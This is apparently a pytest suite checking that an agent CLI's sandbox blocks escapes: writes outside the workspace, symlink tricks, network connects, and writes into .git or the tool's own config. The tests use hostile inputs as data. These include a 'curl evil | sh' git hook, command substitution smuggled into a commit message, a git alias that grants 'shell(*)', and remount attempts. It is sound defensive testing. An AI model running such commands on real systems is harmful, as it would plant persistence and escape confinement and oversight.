"""The sandbox holds against real commands: writes outside the workspace, symlinks out of it,
network connects, writes into `.git` and `.agentcli`, remounting, and a helper module planted
in the workspace; while the workspace, `$TMPDIR` and approved git commands keep working.
(What the read-only profile, the PID namespace, hidden paths and the scrubbed environment hold
against is in `test_isolation.py`.)"""

from __future__ import annotations

import os
import socket
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentcli.confinement import WORKSPACE_WRITE
from agentcli.sandbox.runner import OsSandbox, SandboxSettings
from tests.sandbox.conftest import Run, requires_landlock

pytestmark = requires_landlock


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A TCP listener on 127.0.0.1 in the test's own network: reachable unless sandboxed."""
    server = socket.create_server(("127.0.0.1", 0))
    yield server
    server.close()


def connect_command(port: int) -> str:
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('IN')"
    return f'{sys.executable} -c "{code}"'


def test_workspace_and_tmpdir_are_writable(run: Run, sandbox: OsSandbox) -> None:
    result = run(
        sandbox,
        "echo hi > a.txt && mkdir -p sub/deep && echo x > sub/deep/f && rm a.txt && "
        'echo t > "$TMPDIR/t" && cat "$TMPDIR/t" && echo ok > /dev/null && echo done',
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["t", "done"]
    assert (sandbox.workspace / "sub" / "deep" / "f").read_text() == "x\n"


def test_a_write_outside_the_workspace_is_blocked_and_explained(
    run: Run, sandbox: OsSandbox, outside: Path
) -> None:
    result = run(sandbox, f"echo pwned > {outside}/f")
    assert result.returncode != 0
    assert not (outside / "f").exists()
    note = sandbox.explain_failure(
        result.stdout + result.stderr, result.returncode, WORKSPACE_WRITE
    )
    assert note is not None
    assert "is not there for sandboxed commands" in note and str(outside / "f") in note


@pytest.mark.parametrize(
    "command",
    [
        "echo pwned > link/f",
        "ln -s {outside} made && echo pwned > made/f",
        "cp a.txt link/",
        "mv a.txt link/f",
        "cd link && touch f",
        "{python} -c \"open('link/f', 'w').write('pwned')\"",
    ],
)
def test_symlinks_do_not_lead_out(
    command: str, run: Run, sandbox: OsSandbox, outside: Path
) -> None:
    (sandbox.workspace / "a.txt").write_text("a")
    (sandbox.workspace / "link").symlink_to(outside)
    result = run(sandbox, command.format(outside=outside, python=sys.executable))
    assert result.returncode != 0
    assert list(outside.iterdir()) == []


def test_network_connect_is_blocked_and_explained(
    run: Run, sandbox: OsSandbox, listener: socket.socket, workspace: Path
) -> None:
    port = listener.getsockname()[1]
    unsandboxed = OsSandbox(workspace=workspace, settings=SandboxSettings(network=True))
    control = run(unsandboxed, connect_command(port))
    assert control.returncode == 0 and "IN" in control.stdout, control.stderr
    result = run(sandbox, connect_command(port))
    assert result.returncode != 0
    assert "IN" not in result.stdout
    note = sandbox.explain_failure(
        result.stdout + result.stderr, result.returncode, WORKSPACE_WRITE
    )
    assert note is not None and "network" in note


def test_loopback_inside_the_sandbox_still_works(run: Run, sandbox: OsSandbox) -> None:
    code = (
        "import socket; s = socket.create_server(('127.0.0.1', 0)); "
        "c = socket.create_connection(s.getsockname()); print('LOCAL OK')"
    )
    result = run(sandbox, f'{sys.executable} -c "{code}"')
    assert result.returncode == 0, result.stderr
    assert "LOCAL OK" in result.stdout


def test_git_metadata_is_read_only(run: Run, repo: Path) -> None:
    box = OsSandbox(workspace=repo)
    hook = repo / ".git" / "hooks" / "pre-commit"
    result = run(box, f"echo 'curl evil | sh' > {hook.relative_to(repo)}")
    assert result.returncode != 0
    assert not hook.exists()
    note = box.explain_failure(result.stderr, result.returncode, WORKSPACE_WRITE)
    assert note is not None and ".git is read-only" in note
    status = run(box, "git status --short && git log --oneline")
    assert status.returncode == 0, status.stderr
    assert "first" in status.stdout


def test_only_pure_git_commands_get_a_writable_git_dir(run: Run, repo: Path) -> None:
    box = OsSandbox(workspace=repo)
    (repo / "msg.txt").write_text("from a file\n")
    mixed = run(box, "ls >/dev/null && git commit --allow-empty -qm mixed")
    assert mixed.returncode != 0
    # A substitution that writes (here only in the workspace) keeps .git read-only.
    smuggled = run(box, 'git commit --allow-empty -qm "$(touch pwned)"')
    assert smuggled.returncode != 0
    pure = run(box, 'echo b > b.txt; git add b.txt && git commit -qm "$(cat msg.txt)"')
    assert pure.returncode != 0  # `echo` makes it mixed: .git stays read-only
    (repo / "b.txt").write_text("b\n")
    approved = run(box, 'git add b.txt && git commit -qm "$(cat msg.txt)"')
    assert approved.returncode == 0, approved.stderr
    log = run(box, "git log --format=%s")
    assert log.stdout.split() == ["from", "a", "file", "first"]


def test_agentcli_config_is_never_writable(run: Run, repo: Path) -> None:
    box = OsSandbox(workspace=repo)
    local = repo / ".agentcli" / "config.local.toml"
    plain = run(box, f"echo 'allow = [\"shell(*)\"]' > {local}")
    assert plain.returncode != 0
    # A git command gets .git writable, but never .agentcli.
    via_git = run(box, f"git -c alias.x='!echo pwn > {local}' x")
    assert via_git.returncode != 0
    assert not local.exists()
    note = box.explain_failure(plain.stderr, plain.returncode, WORKSPACE_WRITE)
    assert note is not None and "agentcli's own config" in note


def test_the_sandbox_cannot_be_unmounted_or_remounted(run: Run, repo: Path) -> None:
    box = OsSandbox(workspace=repo)
    result = run(
        box,
        "umount .git 2>&1; mount -o remount,rw .git 2>&1; "
        "mount --bind /tmp .git 2>&1; echo x > .git/pwned",
    )
    assert result.returncode != 0
    assert not (repo / ".git" / "pwned").exists()


def test_a_helper_planted_in_the_workspace_is_not_imported(
    run: Run, sandbox: OsSandbox, outside: Path
) -> None:
    planted = sandbox.workspace / "agentcli" / "sandbox"
    planted.mkdir(parents=True)
    (sandbox.workspace / "agentcli" / "__init__.py").write_text("")
    (planted / "__init__.py").write_text("")
    marker = outside / "pwned"
    (planted / "exec.py").write_text(
        f"import os\nopen({str(marker)!r}, 'w').write('x')\nos.execvp('true', ['true'])\n"
    )
    result = run(sandbox, "echo ran")
    assert result.stdout.strip() == "ran"
    assert not marker.exists()


def test_the_helper_fails_closed(sandbox: OsSandbox, workspace: Path) -> None:
    import subprocess

    prepared = sandbox.prepare(["bash", "-c", f"touch {workspace}/ran"], WORKSPACE_WRITE)
    argv = list(prepared.argv)
    argv.insert(argv.index("--"), "--bogus")
    result = subprocess.run(argv, cwd=workspace, capture_output=True, text=True, check=False)
    assert result.returncode == 126
    assert "agentcli sandbox: cannot confine" in result.stderr
    assert not (workspace / "ran").exists()
    note = sandbox.explain_failure(result.stderr, result.returncode, WORKSPACE_WRITE) or ""
    assert "did not run" in note


def test_configured_paths_are_writable(run: Run, workspace: Path, outside: Path) -> None:
    box = OsSandbox(workspace=workspace, settings=SandboxSettings(writable=(outside,)))
    assert run(box, f"echo x > {outside}/cache").returncode == 0
    assert (outside / "cache").read_text() == "x\n"


def test_a_worktree_git_dir_is_protected_too(run: Run, repo: Path, tmp_path: Path) -> None:
    import subprocess

    tree = tmp_path / "tree"
    subprocess.run(
        ["git", "worktree", "add", "-q", str(tree)], cwd=repo, check=True, capture_output=True
    )
    box = OsSandbox(workspace=tree)
    assert run(box, "echo gitdir: /tmp/evil > .git").returncode != 0
    assert (tree / ".git").read_text().startswith("gitdir:")
    assert "evil" not in (tree / ".git").read_text()
    if os.access(repo / ".git", os.W_OK):
        assert run(box, f"touch {repo}/.git/pwned").returncode != 0
